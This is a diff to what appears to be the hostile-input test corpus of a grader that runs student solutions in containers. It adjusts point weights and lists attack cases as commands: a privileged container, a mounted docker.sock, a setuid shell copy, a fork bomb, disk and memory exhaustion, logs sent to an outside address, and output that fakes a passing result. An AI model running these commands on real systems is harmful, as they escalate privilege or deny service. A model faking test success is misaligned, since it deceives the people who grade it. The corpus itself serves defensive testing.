@@ -25,8 +25,8 @@ MEGABYTE = 1 << 20
 SOLUTIONS = Path(__file__).parent / "solutions"
 Exercise = Literal["entry", "folder", "web", "fetch", "slow"]
 #: Points of one exercise of each kind, and how many of them there are.
-WORTH: dict[Exercise, float] = {"entry": 4, "folder": 3, "web": 3, "fetch": 1, "slow": 1}
-TIMES: dict[Exercise, int] = {"entry": 4, "folder": 3, "web": 1, "fetch": 1, "slow": 1}
+WORTH: dict[Exercise, float] = {"entry": 4, "folder": 2, "web": 3, "fetch": 1, "slow": 1}
+TIMES: dict[Exercise, int] = {"entry": 6, "folder": 4, "web": 1, "fetch": 1, "slow": 1}
 Make = Callable[[Path, Path], None]
 
 
@@ -306,7 +306,7 @@ CORPUS: dict[str, Hostile] = {
     ),
     # Command lines of a container
     **{
-        name: Hostile(exercise="folder", make=runs(arguments), points=1, check="writes", said=said)
+        name: Hostile(exercise="folder", make=runs(arguments), check="writes", said=said)
         for name, arguments, said in (
             ("privileged", f"{MOUNT} --privileged", "--privileged"),
             ("engine-socket", f"{MOUNT} -v /var/run/docker.sock:/s", "hands the engine itself"),
@@ -336,54 +336,56 @@ CORPUS: dict[str, Hostile] = {
         )
     },
     "logs-to-elsewhere": Hostile(
-        exercise="folder", points=3, check="",
+        exercise="folder", points=2, check="",
         make=runs(f"{MOUNT} --log-driver syslog --log-opt syslog-address=udp://192.0.2.1"),
     ),
     "image-of-another-student": Hostile(
-        exercise="folder", make=runs(MOUNT, image="entry"), points=1, check="writes", said="the image entry is not one"
+        exercise="folder", make=runs(MOUNT, image="entry"), check="writes", said="the image entry is not one"
     ),
-    "folder-is-a-link": Hostile(exercise="folder", make=swapped, said="leads out of its folder"),
+    "folder-is-a-link": Hostile(
+        exercise="folder", make=swapped, check="writes", said="leads out of its folder"
+    ),
     "leaves-a-link": Hostile(
-        exercise="folder", make=runs(MOUNT, command="ln -s /etc/hostname /made/sample"), points=1, check="writes",
+        exercise="folder", make=runs(MOUNT, command="ln -s /etc/hostname /made/sample"), check="writes",
         said="is missing",
     ),
     "leaves-a-pipe": Hostile(
-        exercise="folder", make=runs(MOUNT, command="mkfifo /made/sample"), points=1, check="writes", said="is missing"
+        exercise="folder", make=runs(MOUNT, command="mkfifo /made/sample"), check="writes", said="is missing"
     ),
     "leaves-set-uid": Hostile(
-        exercise="folder", points=3, check="",
+        exercise="folder", points=2, check="",
         make=runs(MOUNT, command="sh -c 'cp /bin/sh /made/sh; chmod 4777 /made/sh; echo hello > /made/sample'"),
     ),
     "fills-the-folder": Hostile(
         exercise="folder", make=runs(MOUNT, command="sh -c 'dd if=/dev/zero of=/made/x bs=1M count=500; sleep 60'"),
-        points=1, check="writes", said="wrote more than 64 MiB",
+        check="writes", said="wrote more than 64 MiB",
     ),
     "fills-the-disk": Hostile(
-        exercise="folder", points=1, check="writes", said="wrote more than 64 MiB",
+        exercise="folder", check="writes", said="wrote more than 64 MiB",
         make=runs(f"-u 0 {MOUNT}", command="sh -c 'dd if=/dev/zero of=/x bs=1M count=500; sleep 60'"),
     ),
     "many-files": Hostile(
-        exercise="folder", points=1, check="writes", said="wrote more than 64 MiB",
+        exercise="folder", check="writes", said="wrote more than 64 MiB",
         make=runs(f"-u 0 {MOUNT}", command="""perl -e 'for (1..40000) { open F, ">", "/tmp/$_" } sleep 60'"""),
     ),
     "fork-bomb": Hostile(
-        exercise="folder", make=runs(MOUNT, command="sh -c 'b() { b | b & }; b; sleep 60'"), points=1, check="writes",
+        exercise="folder", make=runs(MOUNT, command="sh -c 'b() { b | b & }; b; sleep 60'"), check="writes",
         said="has not ended",
     ),
     "memory": Hostile(
-        exercise="folder", make=runs(MOUNT, command="""awk 'BEGIN { s = "x"; while (1) s = s s }'"""), points=1,
+        exercise="folder", make=runs(MOUNT, command="""awk 'BEGIN { s = "x"; while (1) s = s s }'"""),
         check="writes", said="137",
     ),
     "ignores-signals": Hostile(
-        exercise="folder", points=1, check="writes", said="has not ended",
+        exercise="folder", check="writes", said="has not ended",
         make=runs(f"--init {MOUNT}", command="""sh -c 'trap "" TERM INT HUP; while :; do sleep 1; done'"""),
     ),
     "endless": Hostile(
-        exercise="folder", make=runs(MOUNT, command="yes ::error::solved"), points=1, check="writes",
+        exercise="folder", make=runs(MOUNT, command="yes ::error::solved"), check="writes",
         said="has not ended",
     ),
     "says-it-has-passed": Hostile(
-        exercise="folder", points=1, check="writes", said="is missing",
+        exercise="folder", check="writes", said="is missing",
         make=runs(MOUNT, command="""sh -c 'echo "1 passed in 0.01s"; echo "{\\"points\\": 99}"; kill -9 $$; exit 0'"""),
     ),
     # What answers a check
